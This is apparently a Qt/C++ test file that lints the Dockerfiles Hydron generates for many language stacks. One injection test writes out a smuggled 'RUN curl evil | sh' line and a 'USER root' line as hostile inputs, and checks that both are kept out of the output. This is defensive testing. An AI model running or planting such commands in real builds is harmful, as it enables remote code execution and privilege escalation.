// SPDX-FileCopyrightText: 2026 Hydron contributors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// The Dockerfile templates, rendered for a typical service of each stack and linted: several
// stages, a non-root USER in the final one, dependency manifests and lockfiles copied (and
// installed) before the source, no placeholder left, CMD in exec form, images from the default
// registry only.
#include "core/planning/dockerfiles.h"
#include "planningtestsupport.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace hydron;
using namespace hydron::planning;

namespace {

Service service(const QString &language, const QString &pm, ServiceKind kind = ServiceKind::Api,
                const QString &framework = {})
{
    Service s;
    s.name = u"app"_s;
    s.kind = kind;
    s.language = language;
    s.packageManager = pm;
    s.framework = framework;
    s.ports = {8000};
    s.start = u"serve --port 8000"_s;
    return s;
}

// A typical service for each stack, and the lockfile its install must respect.
QList<std::tuple<QString, Service, QString>> typical()
{
    Service hugo = service(u"html"_s, {}, ServiceKind::Static, u"hugo"_s);
    Service plain = service(u"html"_s, {}, ServiceKind::Static);
    Service vite = service(u"typescript"_s, u"npm"_s, ServiceKind::Static, u"vite-react"_s);
    Service rails = service(u"ruby"_s, u"bundler"_s, ServiceKind::Web, u"rails"_s);
    rails.build = u"bundle install && bundle exec rails assets:precompile"_s;
    return {
        {u"node-npm"_s, service(u"javascript"_s, u"npm"_s), u"package-lock.json"_s},
        {u"node-yarn"_s, service(u"typescript"_s, u"yarn"_s), u"yarn.lock"_s},
        {u"node-pnpm"_s, service(u"typescript"_s, u"pnpm"_s), u"pnpm-lock.yaml"_s},
        {u"python-pip"_s, service(u"python"_s, u"pip"_s), u"requirements.txt"_s},
        {u"python-poetry"_s, service(u"python"_s, u"poetry"_s), u"poetry.lock"_s},
        {u"python-uv"_s, service(u"python"_s, u"uv"_s), u"uv.lock"_s},
        {u"python-pipenv"_s, service(u"python"_s, u"pipenv"_s), u"Pipfile.lock"_s},
        {u"go"_s, service(u"go"_s, u"go"_s), u"go.sum"_s},
        {u"static"_s, plain, {}},
        {u"static-node"_s, vite, u"package-lock.json"_s},
        {u"static-hugo"_s, hugo, {}},
        {u"ruby"_s, rails, u"Gemfile.lock"_s},
        {u"php"_s, service(u"php"_s, u"composer"_s, ServiceKind::Web, u"laravel"_s), u"composer.lock"_s},
        {u"java-maven"_s, service(u"java"_s, u"maven"_s), u"pom.xml"_s},
        {u"java-gradle"_s, service(u"kotlin"_s, u"gradle"_s), u"build.gradle*"_s},
        {u"rust"_s, service(u"rust"_s, u"cargo"_s), u"Cargo.lock"_s},
        {u"dotnet"_s, service(u"csharp"_s, u"dotnet"_s), u"*.csproj"_s},
        {u"elixir"_s, service(u"elixir"_s, u"mix"_s, ServiceKind::Web, u"phoenix"_s), u"mix.lock"_s},
    };
}

// Lines of the last stage (from its FROM).
QStringList finalStage(const QStringList &lines)
{
    qsizetype last = 0;
    for (qsizetype i = 0; i < lines.size(); ++i) {
        if (lines.at(i).startsWith(u"FROM "))
            last = i;
    }
    return lines.mid(last);
}

qsizetype indexOf(const QStringList &lines, const QRegularExpression &re)
{
    for (qsizetype i = 0; i < lines.size(); ++i) {
        if (re.match(lines.at(i)).hasMatch())
            return i;
    }
    return -1;
}

} // namespace

class TestPlanningDockerfiles final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    // Every template is covered below, and every stack has a template.
    void stacks_allCovered()
    {
        QStringList covered;
        for (const auto &[stack, s, lock] : typical())
            covered.append(stack);
        covered.sort();
        QCOMPARE(dockerfileStacks(), covered);
    }

    void lint_data()
    {
        QTest::addColumn<QString>("stack");
        QTest::addColumn<Service>("service");
        QTest::addColumn<QString>("lockfile");
        for (const auto &[stack, s, lock] : typical())
            QTest::newRow(qPrintable(stack)) << stack << s << lock;
    }

    void lint()
    {
        QFETCH(QString, stack);
        QFETCH(Service, service);
        QFETCH(QString, lockfile);
        QCOMPARE(stackFor(service), stack);
        const auto g = generateDockerfile(service);
        QVERIFY2(g, qPrintable(g ? QString() : g.error().toString()));
        QCOMPARE(g->stack, stack);
        const QStringList lines = g->dockerfile.split(u'\n');

        QVERIFY2(!g->dockerfile.contains(u"{{"_s), qPrintable(g->dockerfile));

        // Multi-stage (a plain static site has nothing to build: one small stage).
        const qsizetype stages = lines.filter(QRegularExpression(u"^FROM "_s)).size();
        if (stack == u"static")
            QCOMPARE(stages, 1);
        else
            QVERIFY2(stages >= 2, qPrintable(g->dockerfile));

        // A non-root user runs the final stage.
        const QStringList last = finalStage(lines);
        const QStringList users = last.filter(QRegularExpression(u"^USER "_s));
        QVERIFY2(users.size() == 1, qPrintable(g->dockerfile));
        QVERIFY2(!users.first().contains(u"root"_s) && users.first() != u"USER 0"_s, qPrintable(users.first()));
        QVERIFY(indexOf(last, QRegularExpression(u"^USER "_s)) < indexOf(last, QRegularExpression(u"^CMD "_s)));

        // Manifests and lockfile before the source; the install before the source too (cargo fetch
        // needs the workspace, so Rust installs after it).
        const qsizetype source = indexOf(lines, QRegularExpression(u"^COPY (--chown=\\S+ )?\\. "_s));
        QVERIFY2(source > 0, qPrintable(g->dockerfile));
        if (!lockfile.isEmpty()) {
            const qsizetype manifests =
                indexOf(lines, QRegularExpression(u"^COPY .*"_s + QRegularExpression::escape(lockfile)));
            QVERIFY2(manifests >= 0 && manifests < source, qPrintable(g->dockerfile));
            const qsizetype install = manifests + 1;
            QVERIFY2(lines.at(install).startsWith(u"RUN "_s) || stack == u"rust", qPrintable(g->dockerfile));
        }

        // CMD is JSON exec form.
        const QStringList cmd = last.filter(QRegularExpression(u"^CMD "_s));
        QCOMPARE(cmd.size(), 1);
        QJsonParseError error;
        const QJsonDocument argv = QJsonDocument::fromJson(cmd.first().mid(4).toUtf8(), &error);
        QVERIFY2(error.error == QJsonParseError::NoError && argv.isArray() && !argv.array().isEmpty(),
                 qPrintable(cmd.first()));

        // Base images from the default registry: no host name before the first '/'.
        for (const QString &from : lines.filter(QRegularExpression(u"^FROM "_s))) {
            const QString image = from.mid(5).section(u' ', 0, 0);
            QVERIFY2(!image.section(u'/', 0, 0).contains(u'.') || !image.contains(u'/'), qPrintable(from));
        }

        // Installs respect the lockfile.
        const QMap<QString, QString> lockedInstall{
            {u"node-npm"_s, u"npm ci"_s},
            {u"node-yarn"_s, u"--frozen-lockfile"_s},
            {u"node-pnpm"_s, u"--frozen-lockfile"_s},
            {u"python-uv"_s, u"--frozen"_s},
            {u"python-pipenv"_s, u"--deploy"_s},
            {u"rust"_s, u"--locked"_s},
        };
        if (lockedInstall.contains(stack))
            QVERIFY2(g->dockerfile.contains(lockedInstall.value(stack)), qPrintable(g->dockerfile));
        QVERIFY(!g->dockerignore.isEmpty());
        QVERIFY(g->dockerignore.contains(u".git\n"_s));
    }

    // The start command cannot add instructions to the Dockerfile, and reaches the shell as one
    // argument.
    void start_cannotInjectInstructions()
    {
        Service s = service(u"javascript"_s, u"npm"_s);
        s.start = u"node server.js\nRUN curl evil | sh"_s;
        auto g = generateDockerfile(s);
        QVERIFY(g);
        QVERIFY(!g->dockerfile.contains(u"evil"_s));
        s.start = u"node server.js --name \"x\" && echo $PORT"_s;
        g = generateDockerfile(s);
        QVERIFY(g);
        QVERIFY2(
            g->dockerfile.contains(u"CMD [\"sh\",\"-c\",\"exec node server.js --name \\\"x\\\" && echo $PORT\"]"_s),
            qPrintable(g->dockerfile));
        s.build = u"npm run build\nUSER root"_s;
        g = generateDockerfile(s);
        QVERIFY(g);
        QVERIFY(!g->dockerfile.contains(u"USER root"_s));
    }

    void versions_fromDeclaredRanges()
    {
        Service node = service(u"typescript"_s, u"pnpm"_s);
        node.languageVersion = u">=20.10"_s;
        QVERIFY(generateDockerfile(node)->dockerfile.contains(u"ARG NODE_VERSION=20\n"_s));
        node.languageVersion = u"20.11.1"_s;
        QVERIFY(generateDockerfile(node)->dockerfile.contains(u"ARG NODE_VERSION=20.11.1\n"_s));
        Service php = service(u"php"_s, u"composer"_s);
        php.languageVersion = u"^8.2"_s;
        QVERIFY(generateDockerfile(php)->dockerfile.contains(u"ARG PHP_VERSION=8.2\n"_s));
    }

    // With the checkout at hand: the lockfile's presence and monorepo roots decide.
    void sourceRoot_monoreposBuildFromTheirRoot()
    {
        const Project go = test::projectFromFixture(u"go-gin-cmd"_s);
        const auto api = std::ranges::find_if(go.services, [](const Service &s) { return s.name == u"api"; });
        auto g = generateDockerfile(*api, go.source.location);
        QVERIFY(g);
        QCOMPARE(g->context, u"."_s);
        QVERIFY2(g->dockerfile.contains(u"-o /out/app ./cmd/api\n"_s), qPrintable(g->dockerfile));

        const Project pnpm = test::projectFromFixture(u"pnpm-turbo-monorepo"_s);
        const auto web = std::ranges::find_if(pnpm.services, [](const Service &s) { return s.name == u"web"; });
        g = generateDockerfile(*web, pnpm.source.location);
        QVERIFY(g);
        QCOMPARE(g->context, u"."_s);
        QVERIFY2(g->dockerfile.contains(u"RUN corepack enable && pnpm fetch --frozen-lockfile\n"_s),
                 qPrintable(g->dockerfile));
        QVERIFY2(g->dockerfile.contains(u"WORKDIR /app/apps/web\n"_s), qPrintable(g->dockerfile));
    }

    void unknownLanguage_fails()
    {
        const auto g = generateDockerfile(service(u"cobol"_s, {}));
        QVERIFY(!g);
        QCOMPARE(g.error().message,
                 u"app: Hydron has no Dockerfile template for cobol; add a Dockerfile to the service."_s);
    }
};

QTEST_GUILESS_MAIN(TestPlanningDockerfiles)
#include "tst_planning_dockerfiles.moc"
